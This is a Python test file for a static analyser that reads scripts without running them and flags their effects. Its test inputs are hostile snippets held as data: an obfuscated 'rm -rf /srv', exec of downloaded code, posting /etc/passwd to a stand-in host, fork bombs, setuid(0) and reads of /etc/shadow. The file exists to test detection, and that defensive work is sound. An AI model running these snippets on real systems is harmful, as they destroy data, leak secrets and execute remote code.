"""Python read without running it: what a script calls, however it hides what it calls."""

import zlib
from pathlib import Path

import pytest
import yaml

from vigil.domain.effects import EffectKind
from vigil.guard.findings import Mark
from vigil.guard.program import UNRESOLVED, Command, Nested
from vigil.guard.python import PythonReading, read_python
from vigil.tool_files import load_tools

LIBRARY = load_tools().library()
DROP = "rm -rf /srv"
SCRIPTS = yaml.safe_load((Path(__file__).parent / "python.yaml").read_text(encoding="utf-8"))


def read(code: str) -> PythonReading:
    return read_python(code, LIBRARY)


def scripts(code: str) -> list[str]:
    """The scripts of a shell that it runs."""
    return [n.code.text for n in read(code).nested if isinstance(n, Nested)]


def commands(code: str) -> list[str]:
    return [
        " ".join(word.text for word in item.words)
        for item in read(code).nested
        if isinstance(item, Command) and item.words
    ]


def files(code: str) -> list[tuple[str, bool]]:
    """The files that it opens, and whether it writes them."""
    return [
        (redirection.target.text, redirection.writes)
        for item in read(code).nested
        if isinstance(item, Command)
        for redirection in item.redirections
    ]


def kinds(code: str) -> set[EffectKind]:
    return {finding.kind for finding in read(code).findings}


def marks(code: str) -> frozenset[Mark]:
    return frozenset(mark for finding in read(code).findings for mark in finding.marks)


LETTERS = [*DROP]
HIDDEN: dict[str, str] = SCRIPTS["hidden"] | {
    "by numbers": f"import os\nos.system(''.join(chr(c) for c in {[*map(ord, DROP)]}))",
    "by xor": f"import os\nos.system(''.join(chr(c ^ 7) for c in {[ord(c) ^ 7 for c in DROP]}))",
    "in a loop": f"import os\ns = ''\nfor c in {LETTERS}:\n    s += c\nos.system(s)",
    "compressed": "import os, zlib\n"
    f"os.system(zlib.decompress({zlib.compress(DROP.encode())!r}).decode())",
}


@pytest.mark.parametrize("code", HIDDEN.values(), ids=HIDDEN)
def test_what_is_hidden_is_found(code: str) -> None:
    assert DROP in scripts(code)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("import os\nos.remove('/srv/a')", "rm -- /srv/a"),
        ("import os\nfor f in ['a', 'b']:\n    os.unlink('/srv/' + f)", "rm -- /srv/b"),
        ("import shutil\nshutil.rmtree('/srv/a')", "rm -r -f -- /srv/a"),
        ("from pathlib import Path\n(Path('/srv') / 'a').unlink()", "rm -- /srv/a"),
        ("from pathlib import Path\nPath('/srv', '/etc/x').unlink()", "rm -- /etc/x"),
        ("import os\nos.chmod('/srv/a', 0o777)", "chmod 777 /srv/a"),
        ("import os, signal\nos.kill(1, signal.SIGKILL)", "kill -KILL 1"),
        ("import os\nos.kill(int(input()), 9)", f"kill -9 {UNRESOLVED}"),
        ("import subprocess\nsubprocess.run(['rm', '-rf', '/srv'])", DROP),
        ("import subprocess\nc = ['rm']\nc.append('-rf')\nc += ['/srv']\nsubprocess.call(c)", DROP),
        ("import subprocess\nsubprocess.run([*['rm', '-rf'], '/srv'])", DROP),
        (
            "import subprocess\nc = ['ls']\nif input():\n    c.append('-l')\nsubprocess.run(c)",
            f"ls {UNRESOLVED}",
        ),
        ("import subprocess\nsubprocess.run(['x', '-rf', '/srv'], executable='rm')", DROP),
        ("import os\nos.execl('rm', 'x', '-rf', '/srv')", DROP),
        ("import os\nos.execvp('rm', ['x', '-rf', '/srv'])", DROP),
        ("import os\nos.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/srv')", DROP),
    ],
)
def test_a_call_is_the_command_that_does_the_same(code: str, expected: str) -> None:
    assert expected in commands(code)


@pytest.mark.parametrize(
    ("code", "path", "writes"),
    [
        ("open('/etc/shadow')", "/etc/shadow", False),
        ("open('/root/.bashrc', 'a').write('x')", "/root/.bashrc", True),
        ("open(file='/srv/a', mode='w')", "/srv/a", True),
        ("open('/srv/a', input())", "/srv/a", True),
        ("from io import open as o\no('/srv/a')", "/srv/a", False),
        (
            "import os\nwith open(os.path.join('/usr', '../etc/shadow')) as f:\n    f.read()",
            "/usr/../etc/shadow",
            False,
        ),
        ("from pathlib import Path\nPath('/srv/a').write_text('x')", "/srv/a", True),
        ("from pathlib import Path\nPath('/srv/a').open('w')", "/srv/a", True),
        ("import shutil\nshutil.copy('/etc/shadow', '/srv/a')", "/etc/shadow", False),
        ("import sqlite3\nsqlite3.connect('/srv/a.db')", "/srv/a.db", False),
        ("def read(path):\n    return open(path)\nread('/etc/shadow')", "/etc/shadow", False),
        ("open(input())", UNRESOLVED, False),
    ],
)
def test_files_that_are_opened_are_redirections(code: str, path: str, writes: bool) -> None:
    assert (path, writes) in files(code)


UNKNOWN: dict[str, str] = SCRIPTS["unknown"] | {
    "a null byte": "import os\x00",
    "a tower of brackets": "(" * 500 + ")" * 500,
    "a tower of minus": "-" * 5000 + "1",
    "a chain of sums": "+".join(["x"] * 3000),
    "a script that is too long": "x = 1\n" * 40_000,
    "a script with too many branches": "if x:\n    y = f(x)\n" * 6_000,
}


@pytest.mark.parametrize("code", UNKNOWN.values(), ids=UNKNOWN)
def test_what_only_a_run_could_tell_is_unknown(code: str) -> None:
    assert EffectKind.UNKNOWN in kinds(code)


@pytest.mark.parametrize(
    "code",
    [
        "import os\nos.system(input())",
        "import os\ns = 'ls'\nfor c in input():\n    s = s + c\nos.system(s)",
        "import os\nfor line in open('/srv/a'):\n    os.system(line)",
        "import os, sys\nos.system(sys.argv[1])",
        "import os, random\nos.system(random.choice(['ls', 'id']))",
    ],
)
def test_a_script_of_the_shell_that_is_not_known_is_left_open(code: str) -> None:
    assert any(UNRESOLVED in script for script in scripts(code))


HARMLESS: dict[str, str] = SCRIPTS["harmless"]


@pytest.mark.parametrize("code", HARMLESS.values(), ids=HARMLESS)
def test_what_only_reads_and_computes_says_nothing_else(code: str) -> None:
    reading = read(code)
    assert {f.kind for f in reading.findings} <= {EffectKind.READ}, reading.findings
    assert not any(item.words for item in reading.nested if isinstance(item, Command))
    assert not any(writes for _, writes in files(code))


@pytest.mark.parametrize(
    ("code", "mark"),
    [
        ("import requests\nexec(requests.get('http://x/a.py').text)", Mark.RUNS_DOWNLOAD),
        (
            "import os, urllib.request as u\nos.system(u.urlopen('http://x/a').read().decode())",
            Mark.RUNS_DOWNLOAD,
        ),
        (
            "import os, socket\ns = socket.socket()\ns.connect(('x', 1))\nos.system(s.recv(9))",
            Mark.RUNS_DOWNLOAD,
        ),
        (
            "import requests\nrequests.post('http://x/', data=open('/etc/passwd').read())",
            Mark.SENDS_OUT,
        ),
        (
            "import requests\nrequests.get('http://x/?' + open('/etc/passwd').read())",
            Mark.SENDS_OUT,
        ),
        ("import urllib.request as u\nu.urlopen('http://x/', b'a')", Mark.SENDS_OUT),
        ("import smtplib\nsmtplib.SMTP('x').sendmail('a', 'b', 'c')", Mark.SENDS_OUT),
        ("import socket\nsocket.create_connection(('x', 1))", Mark.SENDS_OUT),
        ("import http.server\nhttp.server.HTTPServer(('', 80), None)", Mark.SENDS_OUT),
        ("import psutil\nfor p in psutil.process_iter():\n    p.kill()", Mark.KILLS),
        ("import os\nos.setuid(0)", Mark.ESCALATES),
        ("x = 'a' * 10 ** 10", Mark.EXHAUSTS),
        ("x = []\nwhile True:\n    x.append(1)", Mark.EXHAUSTS),
        ("x = ''\nfor i in range(10 ** 6):\n    x += 'a' * 1000", Mark.EXHAUSTS),
        (
            "def f(n):\n    for i in range(n):\n        yield 'a' * 10 ** 6\nx = [*f(1000)]",
            Mark.EXHAUSTS,
        ),
        ("import os\nwhile True:\n    os.fork()", Mark.EXHAUSTS),
        (
            "import threading\nwhile True:\n    threading.Thread(target=print).start()",
            Mark.EXHAUSTS,
        ),
        ("import numpy as np\nx = [np.zeros((1000, 1000)) for i in range(100)]", Mark.EXHAUSTS),
        ("x = bytearray(10 ** 10)", Mark.EXHAUSTS),
        ("while True:\n    open('/srv/a', 'a').write('x')", Mark.EXHAUSTS),
    ],
)
def test_what_the_invariants_ask_for_is_marked(code: str, mark: Mark) -> None:
    assert mark in marks(code)


@pytest.mark.parametrize(
    "code",
    [
        "while True:\n    x = input()\n    if x:\n        break",
        "x = 'a' * 1000",
        "for i in range(1000):\n    print(i)",
    ],
)
def test_an_ordinary_loop_uses_nothing_up(code: str) -> None:
    assert Mark.EXHAUSTS not in marks(code)


@pytest.mark.parametrize(
    ("code", "kind", "resource"),
    [
        (
            "import requests\nrequests.get('http://shop/health')",
            EffectKind.READ,
            "network:http://shop/health",
        ),
        ("import requests\nrequests.get(input())", EffectKind.UNKNOWN, "network:?"),
        (
            "import socket\nsocket.socket().connect(('10.0.0.1', 80))",
            EffectKind.DISRUPTIVE,
            "network:10.0.0.1:80",
        ),
        ("import psutil\npsutil.Process(7).kill()", EffectKind.DISRUPTIVE, "process:7"),
        (
            "import redis\nredis.Redis(host='cache').delete('cart')",
            EffectKind.DISRUPTIVE,
            "redis:cart",
        ),
    ],
)
def test_what_is_touched_is_named(code: str, kind: EffectKind, resource: str) -> None:
    assert (kind, resource) in {(finding.kind, finding.resource) for finding in read(code).findings}


def test_sql_is_left_to_who_reads_sql() -> None:
    code = (
        "import psycopg2\nwith psycopg2.connect('').cursor() as c:\n    c.execute('drop table t')"
    )
    (nested,) = [item for item in read(code).nested if isinstance(item, Nested)]
    assert (nested.language, nested.dialect, nested.code.text) == (
        "sql",
        "postgres",
        "drop table t",
    )


def test_what_is_fed_to_a_program_is_known() -> None:
    code = f"import subprocess\nsubprocess.run(['bash'], input='{DROP}', env={{'A': 'b'}})"
    (command,) = [item for item in read(code).nested if isinstance(item, Command)]
    assert command.stdin is not None
    assert command.stdin.text == DROP
    assert [(name, word.text) for name, word in command.environment] == [("A", "b")]


@pytest.mark.parametrize("code", SCRIPTS["odd"])
def test_what_is_odd_is_read_to_its_end(code: str) -> None:
    rules = {finding.rule for finding in read(code).findings}
    assert "guard.too-much" not in rules


def test_a_number_of_any_size_is_read() -> None:
    code = f"import os\nos.kill(0x{'f' * 20_000}, 9)\nx = 'a' * 0x{'f' * 20_000}"
    assert f"kill -9 {UNRESOLVED}" in commands(code)


def test_less_than_nothing_makes_no_room_for_more() -> None:
    assert Mark.EXHAUSTS in marks("x = 'a' * -(10 ** 12)\ny = 'a' * 10 ** 9")


def test_a_finding_stands_where_the_call_stands() -> None:
    code = "x = 'äöü'\r\nimport os\r\nprint('é', os.setuid(0))\r\n"
    (finding,) = read(code).findings
    assert code[finding.span.start : finding.span.end] == "os.setuid(0)"
    assert finding.span.line == 3


def test_what_stands_in_exec_is_found_where_exec_stands() -> None:
    code = "x = 1\nexec('import os\\nos.setuid(0)')"
    (finding,) = read(code).findings
    assert code[finding.span.start : finding.span.end].startswith("exec(")


def test_without_a_library_every_call_is_unknown() -> None:
    found = read_python("import os\nos.system('ls')").findings
    assert {finding.kind for finding in found} == {EffectKind.UNKNOWN}
